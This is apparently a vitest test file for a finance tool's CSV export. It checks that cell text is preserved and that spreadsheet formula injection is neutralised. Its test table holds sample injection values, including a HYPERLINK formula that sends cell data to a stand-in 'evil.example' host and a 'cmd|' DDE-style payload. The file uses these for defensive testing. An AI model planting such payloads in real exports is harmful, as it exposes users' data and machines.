import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { CSV_HEAD, csvRow } from '../../cli/export/csv.ts';
import { exportedRow } from '../support/documents/exported.ts';
import { forAll, runs } from '../support/project/runs.ts';

/** RFC 4180, strictly: throws for what it does not allow. */
const parseCsv = (text: string): readonly (readonly string[])[] => {
  const lines: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let line: string[] = [];
  while (cell.lastIndex < text.length) {
    const found = cell.exec(text);
    if (found === null) throw new Error('no CSV');
    line.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === ',') continue;
    lines.push(line);
    line = [];
  }
  return lines;
};

const [HEAD = []] = parseCsv(CSV_HEAD);
const cellsOf = (text: string): Readonly<Record<string, string>> => {
  const [cells = [], ...others] = parseCsv(text);
  expect([cells.length, others]).toEqual([HEAD.length, []]);
  return Object.fromEntries(HEAD.map((name, at) => [name, cells[at] ?? '']));
};

const anyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;|\'＝＋－＠ a1\u0000\u001b'.split('')) }),
);

describe('a row as CSV', () => {
  test('has the same texts in the same cells, whatever the texts are', () => {
    forAll(runs(500), anyText, anyText, (description, memo) => {
      const cells = cellsOf(csvRow(exportedRow({ description, memo }), 'Checking'));
      const shown = (text: string) =>
        text
          .replaceAll('\r\n', '\n')
          .replaceAll(/(?!\n)\p{Cc}/gu, ' ')
          .toWellFormed();
      for (const [cell, text] of [
        [cells.description, shown(description)],
        [cells.memo, shown(memo)],
      ] as const) {
        // Apostrophes mark what would be a formula.
        expect(cell?.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
        if (!/[=+\-@＝＋－＠]/.test(text)) expect(cell).toBe(text);
      }
      expect(cells.account).toBe('Checking');
    });
  });

  test('has no text that a spreadsheet takes for a formula', () => {
    forAll(runs(500), anyText, anyText, (text, accountName) => {
      const row = exportedRow({ description: text, memo: text, category_name: text, original_description: text });
      const {
        description,
        memo,
        category,
        account,
        original_description: original,
      } = cellsOf(csvRow(row, accountName));
      for (const cell of [description, memo, category, account, original]) {
        // A spreadsheet of a country with decimal commas parts cells at semicolons and lines, also within quotes.
        for (const part of [cell, ...(cell ?? '').split(/[;\n]/)]) expect(part).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/);
      }
    });
  });
});

test.each([
  ['=HYPERLINK("http://evil.example/"&A1)', `'=HYPERLINK("http://evil.example/"&A1)`],
  [' +1', "' +1"],
  ['-2+3+cmd|x', "'-2+3+cmd|x"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1+1', "' =1+1"],
  ['＝1+1', "'＝1+1"],
  ['Store = cheap', 'Store = cheap'],
])('the text %j becomes %j', (description, cell) => {
  expect(cellsOf(csvRow(exportedRow({ description }), '')).description).toBe(cell);
});

test('an amount stays a number, and is negative when money leaves the account', () => {
  const debit = exportedRow({ amount: 12.5, transaction_type_name: 'DEBIT' });
  expect(cellsOf(csvRow(debit, '')).amount).toBe('-12.5');
  const kept = exportedRow({ amount: JSON.rawJSON('12.50'), transaction_type_name: 'CREDIT' });
  expect(cellsOf(csvRow(kept, '')).amount).toBe('12.50');
});

test('a split row is left out, its parts are not', () => {
  expect(csvRow(exportedRow({ has_been_split: true }), '')).toBe('');
  expect(csvRow(exportedRow({ parent_guid: 'TRN-0' }), '')).not.toBe('');
});
